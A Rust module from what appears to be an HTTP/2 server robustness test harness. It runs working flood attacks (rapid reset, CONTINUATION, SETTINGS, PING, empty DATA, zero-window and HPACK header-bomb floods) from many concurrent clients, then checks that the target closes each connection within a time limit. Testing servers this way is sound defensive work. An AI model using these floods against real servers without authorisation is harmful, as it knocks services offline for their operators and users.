//! Floods of HTTP/2: resets, heads without end, control frames, empty data, no window, heads that unpack to much.

use std::io;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::Failure;
use crate::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame,
};
use crate::run::Attack;
use crate::tally::Tally;
use crate::target::Scene;
use crate::wire::{attacker, connect};

/// How many clients there are of each kind.
const CLIENTS: usize = 8;
/// So long the server may bear one of them.
const BORNE: Duration = Duration::from_secs(30);
/// When a client gives up on being cut off.
const LIMIT: Duration = Duration::from_secs(45);

/// What a connection is flooded with.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Flood {
    /// Requests that are taken back at once.
    RapidReset,
    /// A head that goes on and on.
    Continuation,
    /// Frames whose answers nobody reads.
    Settings,
    Ping,
    /// Pieces of a body without a byte in them.
    EmptyData,
    /// Answers that nobody allows to be sent.
    NoWindow,
    /// A head of a few bytes that unpacks to megabytes.
    Bomb,
}

const FLOODS: [Flood; 7] = [
    Flood::RapidReset,
    Flood::Continuation,
    Flood::Settings,
    Flood::Ping,
    Flood::EmptyData,
    Flood::NoWindow,
    Flood::Bomb,
];

pub(crate) fn attack(scene: Scene) -> Attack {
    Box::pin(async move {
        let end = Instant::now() + Duration::from_secs(scene.seconds);
        let mut clients = JoinSet::new();
        for number in 0..CLIENTS * FLOODS.len() {
            clients.spawn(client(scene.clone(), number, end));
        }
        let (mut connections, mut endless, mut longest) = (0, Vec::new(), [Duration::ZERO; FLOODS.len()]);
        for ended in clients.join_all().await {
            let (flood, spans) = ended?;
            connections += spans.len();
            for span in spans {
                let index = flood as usize;
                longest[index] = longest[index].max(span);
                if span >= LIMIT {
                    endless.push(format!("{flood:?}"));
                }
            }
        }
        let each: Vec<_> =
            FLOODS.iter().zip(longest).map(|(flood, span)| format!("{flood:?} {span:.1?}")).collect();
        let last = longest.iter().max().copied().unwrap_or_default();
        Ok(Tally::new(format!("{connections} connections; the longest of each kind: {}", each.join(", ")))
            .check(endless.is_empty(), format!("{} were never cut off {}", endless.len(), endless.join(" ")))
            .check(last <= BORNE, format!("the longest was borne for {last:.1?}, allowed {BORNE:?}")))
    })
}

/// How long the server bore each connection of one client.
async fn client(scene: Scene, number: usize, end: Instant) -> Result<(Flood, Vec<Duration>), Failure> {
    let flood = FLOODS[number % FLOODS.len()];
    let mut spans = Vec::new();
    while Instant::now() < end {
        let stream = connect(attacker(number, 1), scene.address).await?;
        let began = Instant::now();
        // An error is an end as good as any.
        drop(tokio::time::timeout(LIMIT, flooded(stream, flood)).await);
        spans.push(began.elapsed());
    }
    Ok((flood, spans))
}

/// Floods until the server closes.
async fn flooded(stream: TcpStream, flood: Flood) -> io::Result<()> {
    let (mut reading, mut writing) = stream.into_split();
    let window = if flood == Flood::NoWindow { &[0, 4, 0, 0, 0, 0][..] } else { &[] };
    writing.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, window)].concat()).await?;
    let reads = !matches!(flood, Flood::Settings | Flood::Ping);
    let ending = async {
        let mut answers = [0; 8192];
        while reads && reading.read(&mut answers).await? > 0 {}
        // Those who do not read notice the end when they write.
        if reads { Ok(()) } else { std::future::pending().await }
    };
    let sending = async {
        for round in 0_u32.. {
            match piece(flood, round) {
                Some(bytes) => writing.write_all(&bytes).await?,
                None => break,
            }
        }
        std::future::pending::<io::Result<()>>().await
    };
    tokio::select! {
        ended = ending => ended,
        failed = sending => failed,
    }
}

/// What is sent next; nothing more when the client waits for the server to lose its patience.
fn piece(flood: Flood, round: u32) -> Option<Vec<u8>> {
    let stream = 2 * round + 1;
    match flood {
        Flood::RapidReset => {
            let request = frames::request(stream, "GET", "/sleep/1000", true);
            Some([request, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat())
        }
        Flood::Continuation if round == 0 => {
            Some(frame(HEADERS, END_STREAM, 1, &frames::head(&[(":method", "GET")])))
        }
        Flood::Continuation => {
            Some(frame(CONTINUATION, 0, 1, &frames::head(&[("x-long", &"y".repeat(8000))])))
        }
        Flood::Settings => Some(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        Flood::Ping => Some(frame(PING, 0, 0, &[0; 8])),
        Flood::EmptyData if round == 0 => Some(frames::request(1, "POST", "/size", false)),
        Flood::EmptyData => Some(frame(DATA, 0, 1, &[])),
        Flood::NoWindow => (round < 100).then(|| frames::request(stream, "GET", "/file", true)),
        Flood::Bomb => (round < 100).then(|| {
            let fields = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/hello")];
            let block = [frames::head(&fields), frames::bomb(3900, 12_000)].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        }),
    }
}
